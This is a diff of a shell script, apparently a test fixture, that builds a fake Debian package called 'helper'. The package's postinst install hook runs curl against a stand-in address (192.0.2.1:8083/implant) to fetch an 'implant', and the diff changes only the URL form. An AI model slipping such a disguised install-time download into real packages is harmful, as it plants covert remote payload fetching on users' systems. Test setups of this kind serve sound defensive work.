@@ -9,7 +9,7 @@ mkdir -p /tmp/package/DEBIAN $root/var/lib/dpkg/info $root/var/lib/dpkg/updates 
 touch $root/var/lib/dpkg/status $root/var/lib/dpkg/available
 command -v curl >/dev/null || cp /bin/true /tmp/bin/curl
 printf 'Package: helper\nVersion: 1\nArchitecture: all\nMaintainer: x <x@example.org>\nDescription: helps\n' > /tmp/package/DEBIAN/control
-printf '#!/bin/sh\ncurl -s -m 1 http://192.0.2.1:8083/implant || true\n' > /tmp/package/DEBIAN/postinst
+printf '#!/bin/sh\ncurl -s -m 1 192.0.2.1:8083/implant || true\n' > /tmp/package/DEBIAN/postinst
 chmod 755 /tmp/package/DEBIAN/postinst
 PATH=$PATH:/usr/sbin:/sbin:/tmp/bin
 export PATH
